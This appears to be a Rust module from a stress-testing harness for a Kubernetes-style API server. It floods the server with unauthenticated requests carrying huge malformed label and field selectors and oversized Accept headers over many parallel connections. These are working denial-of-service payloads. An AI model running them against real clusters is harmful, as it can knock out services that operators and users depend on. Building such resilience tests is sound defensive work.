//! Selectors and Accept headers whose text is all that there is to them, from somebody without any right.

use http::header::ACCEPT;
use hyper::body::Bytes;

use super::connection::{Ask, Reading};
use super::{Arena, Attack, Error, collection, storm};

pub(super) const SELECTORS: Attack = Attack {
    name: "selectors",
    objects: 0,
    run: |arena| Box::pin(selectors(arena)),
};

pub(super) const ACCEPT_CLAUSES: Attack = Attack {
    name: "accept-clauses",
    objects: 0,
    run: |arena| Box::pin(accept(arena)),
};

/// The length of a query: hyper refuses the path of a request from 65,534 bytes on.
const LENGTH: usize = 64_000;
/// How many of each are asked at once.
const AT_ONCE: usize = 8;
/// The length of a header: within what a server may still take of a stranger.
const ACCEPT_LENGTH: usize = 60_000;

/// A selector is read before it is known who asks: it is a part of what is asked of the authorizer.
async fn selectors(arena: &Arena) -> Result<String, Error> {
    let queries = [
        format!("labelSelector={}", "(".repeat(LENGTH)),
        format!("labelSelector={}", "a,".repeat(LENGTH / 2)),
        format!("labelSelector={}", "!".repeat(LENGTH)),
        format!("labelSelector=a%20in%20({})", distinct(LENGTH)),
        format!("labelSelector={}", "a=b,".repeat(LENGTH / 4)),
        format!("fieldSelector={}", "metadata.name=a,".repeat(LENGTH / 16)),
        format!("fieldSelector={}", "\\\\".replace('\\', "%5C").repeat(LENGTH / 6)),
        format!("fieldSelector={}", "=".repeat(LENGTH)),
        "a&".repeat(LENGTH / 2),
    ];
    let asks = queries
        .iter()
        .map(|query| Ask::get(format!("{}?{query}", collection(&arena.namespace))));
    press(arena, asks.collect()).await
}

async fn accept(arena: &Arena) -> Result<String, Error> {
    let clauses = [
        "a/b,".repeat(ACCEPT_LENGTH / 4),
        "application/json;as=Table;v=v1;g=meta.k8s.io;q=0.1,".repeat(ACCEPT_LENGTH / 51),
        format!("application/json{}", ";a=b".repeat(ACCEPT_LENGTH / 4)),
        ",".repeat(ACCEPT_LENGTH),
        "\"".repeat(ACCEPT_LENGTH),
    ];
    let mut asks = Vec::new();
    for clause in &clauses {
        asks.push(Ask::get(collection(&arena.namespace)).header(ACCEPT, clause)?);
    }
    press(arena, asks).await
}

/// Asks each again and again, on connections of its own, until the time is over.
async fn press(arena: &Arena, asks: Vec<Ask>) -> Result<String, Error> {
    let until = storm::end_of(arena.scale.hold);
    let mut shots = Vec::new();
    for ask in &asks {
        // A stranger is told to go after the first answer.
        for _ in 0..AT_ONCE {
            if let Ok(connection) = arena.stranger.connect(Reading::Willing).await {
                shots.push((connection, ask.clone(), Bytes::new()));
            }
        }
    }
    let tally = storm::exchange(shots, until, |_, _, _| Ok(())).await?;
    Ok(format!(
        "{} requests, {AT_ONCE} at once of each: {tally}",
        asks.len() * AT_ONCE
    ))
}

/// Values of a set, each another, together of about this length.
fn distinct(length: usize) -> String {
    let values: Vec<String> = (0..length / 7).map(|number| format!("v{number:05}")).collect();
    values.join(",")
}
